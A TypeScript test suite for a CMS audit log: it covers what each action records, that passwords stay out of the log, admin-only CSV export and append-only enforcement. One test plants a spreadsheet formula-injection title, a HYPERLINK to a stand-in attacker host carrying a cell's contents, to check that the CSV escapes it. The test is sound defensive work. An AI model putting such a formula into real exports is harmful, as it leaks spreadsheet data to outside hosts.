import { sql } from '@payloadcms/db-postgres'
import type { Payload } from 'payload'
import { beforeAll, describe, expect, it } from 'vitest'

import { graphql, restGet, restGetRaw, restPatch, restPost } from '@/testing/http'
import { createStaff, STAFF_PASSWORD, testPayload, tokenFor, unique } from '@/testing/payload'
import type { User } from '@/payload-types'

import { auditApi } from './api'
import { removeExpired } from './retention'
import { filterOf, searchAudit, type AuditRow } from './search'

/**
 * The log through the doors people use: what each action leaves, who may read it, and that no
 * door — REST, GraphQL, SQL — changes or deletes an entry. The log is append-only by design, so
 * this file's entries stay in the test database; they are told apart by this run's accounts.
 */
describe('the log of who did what', () => {
  let payload: Payload
  let admin: User
  let editor: User
  let adminToken = ''
  let editorToken = ''
  const tag = unique()

  const entriesOf = async (actor: string): Promise<AuditRow[]> => (await searchAudit(payload, { actor: actor.toLowerCase() }, 500)).rows

  beforeAll(async () => {
    payload = await testPayload()
    admin = await createStaff(payload, 'admin', `logg-admin-${tag}`)
    editor = await createStaff(payload, 'editor', `logg-redaktor-${tag}`)
    adminToken = await tokenFor(payload, admin)
    editorToken = await tokenFor(payload, editor)
  })

  it('records sign-ins with their address, and a failed one with the address typed, never the password', async () => {
    const wrong = `fel-${tag}-lösenord`
    expect((await restPost('/api/users/login', { email: editor.email, password: STAFF_PASSWORD }, { from: '192.0.2.41' })).status).toBe(200)
    expect((await restPost('/api/users/login', { email: `Okand-${tag}@example.test`, password: wrong }, { from: '192.0.2.42' })).status).toBe(401)
    const signedIn = (await entriesOf(editor.email)).filter((e) => e.kind === 'signIn')
    expect(signedIn.some((e) => e.address === '192.0.2.41')).toBe(true)
    const [failed] = await entriesOf(`okand-${tag}@example.test`)
    expect(failed).toMatchObject({ kind: 'signInFailed', address: '192.0.2.42' })
    // A password typed into the address field is not kept as the address.
    expect((await restPost('/api/users/login', { email: `${wrong} lösenordet`, password: wrong }, { from: '192.0.2.43' })).status).toBe(401)
    const pasted = (await searchAudit(payload, { actor: '(inte en e-postadress)' }, 50)).rows
    expect(pasted.some((e) => e.address === '192.0.2.43')).toBe(true)
    const { rows } = await payload.db.drizzle.execute(sql`SELECT * FROM audit_log WHERE actor ILIKE ${`%${tag}%`} OR address = '192.0.2.43'`)
    expect(JSON.stringify(rows)).not.toContain(wrong)
    expect(JSON.stringify(rows)).not.toContain(STAFF_PASSWORD)
  })

  it("records publishing and unpublishing, a role changed, a password changed and the settings' fields", async () => {
    const article = await payload.create({ collection: 'articles', data: { title: `Loggartikel ${tag}`, lead: 'Ingress.', _status: 'draft' }, draft: true, overrideAccess: true })
    try {
      expect((await restPatch(`/api/articles/${article.id}`, { _status: 'published' }, editorToken)).status).toBe(200)
      expect((await restPatch(`/api/articles/${article.id}`, { _status: 'draft' }, editorToken)).status).toBe(200)
    } finally {
      await payload.delete({ collection: 'articles', id: article.id, overrideAccess: true })
    }
    // Another account's role and password (a new password ends that account's sessions).
    const other = await createStaff(payload, 'editor', `logg-annan-${tag}`)
    const newPassword = `nytt lösenord ${tag} som är långt`
    expect((await restPatch(`/api/users/${other.id}`, { role: 'admin' }, adminToken)).status).toBe(200)
    expect((await restPatch(`/api/users/${other.id}`, { role: 'editor', password: newPassword }, adminToken)).status).toBe(200)
    const before = await payload.findGlobal({ slug: 'site-settings', overrideAccess: true })
    try {
      expect((await restPost('/api/globals/site-settings', { contactName: `Kontakt ${tag}` }, { token: adminToken })).status).toBe(200)
    } finally {
      await payload.updateGlobal({ slug: 'site-settings', data: { contactName: before.contactName }, overrideAccess: true })
    }
    const byEditor = await entriesOf(editor.email)
    expect(byEditor.filter((e) => e.title === `Loggartikel ${tag}`).map((e) => e.kind)).toEqual(['unpublished', 'published'])
    const byAdmin = await entriesOf(admin.email)
    expect(byAdmin.filter((e) => e.kind === 'roleChanged').map((e) => e.note)).toEqual(['admin → editor', 'editor → admin'])
    expect(byAdmin.filter((e) => e.kind === 'passwordChanged')).toHaveLength(1)
    expect(byAdmin.find((e) => e.kind === 'settingsChanged')?.fields).toContain('contactName')
    const { rows } = await payload.db.drizzle.execute(sql`SELECT * FROM audit_log WHERE actor = ${admin.email}`)
    expect(JSON.stringify(rows)).not.toContain(newPassword)
  })

  it('lets only admins read it, as the view and as CSV; filters by person, kind and day', async () => {
    expect((await restGetRaw(auditApi.csv())).status).toBe(403)
    const refused = await restGetRaw(auditApi.csv(), editorToken)
    expect(refused.status).toBe(403)
    expect(refused.text).toContain('Bara administratörer ser loggen.')
    // A title that a spreadsheet would run as a formula is written as text.
    const formula = await payload.create({ collection: 'articles', data: { title: `=HYPERLINK("https://evil.example/?"&A2;"x") ${tag}`, lead: 'Ingress.', _status: 'draft' }, draft: true, overrideAccess: true })
    try {
      await restPatch(`/api/articles/${formula.id}`, { _status: 'published' }, editorToken)
    } finally {
      await payload.delete({ collection: 'articles', id: formula.id, overrideAccess: true })
    }
    const csv = await restGetRaw(auditApi.csv(`?person=${encodeURIComponent(editor.email)}&typ=published`), adminToken)
    expect(csv.status).toBe(200)
    expect(csv.headers.get('content-disposition')).toContain('logg.csv')
    const lines = csv.text.replace(/^\uFEFF/, '').trim().split('\r\n')
    expect(lines[0]).toBe('Tid;Person;Vad;Samling;Dokument;Rubrik;Fält;Anteckning;Adress')
    expect(lines.slice(1).every((l) => l.includes(';Publicerat;'))).toBe(true)
    expect(lines.length).toBeGreaterThanOrEqual(3)
    expect(csv.text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A2;""x"") ${tag}"`)
    expect(filterOf(new URLSearchParams('fran=2024-00-10&till=0000-01-01&typ=okand&sida=-3'))).toEqual({ page: 1 })
    const today = new Date().toISOString().slice(0, 10)
    expect((await searchAudit(payload, { actor: editor.email.toLowerCase(), from: '2000-01-01', to: '2000-12-31' })).rows).toEqual([])
    expect((await searchAudit(payload, { actor: editor.email.toLowerCase(), kind: 'signIn', from: today, to: today })).rows.length).toBeGreaterThan(0)
  })

  it('is append-only: no SQL, REST or GraphQL door changes or deletes an entry; the retention job removes only old ones', async () => {
    const db = payload.db.drizzle
    const refusal = (statement: ReturnType<typeof sql>) => db.execute(statement).then(() => 'done', (e: { cause?: { message?: string }; message?: string }) => String(e.cause?.message ?? e.message))
    expect(await refusal(sql`UPDATE audit_log SET actor = 'någon annan' WHERE actor = ${admin.email}`)).toBe('audit_log is append-only')
    expect(await refusal(sql`DELETE FROM audit_log WHERE actor = ${admin.email}`)).toBe('audit_log is append-only')
    expect(await refusal(sql`TRUNCATE audit_log`)).toBe('audit_log is append-only')
    expect((await restGet('/api/audit-log', adminToken)).status).toBe(404)
    expect((await graphql('{ __type(name: "AuditLog") { name } }', adminToken)).body.data?.__type ?? null).toBeNull()

    // An entry from three years ago (written as the migration's owner would restore one) goes; this run's stay.
    await db.execute(sql`INSERT INTO audit_log (at, actor, kind) VALUES (now() - interval '1100 days', ${`gammal-${tag}@example.test`}, 'signIn')`)
    const mine = (await entriesOf(admin.email)).length
    const { removed, days } = await removeExpired(payload)
    expect(days).toBe(730)
    expect(removed).toBeGreaterThanOrEqual(1)
    expect(await entriesOf(`gammal-${tag}@example.test`)).toEqual([])
    expect((await entriesOf(admin.email)).length).toBe(mine)
  })
})
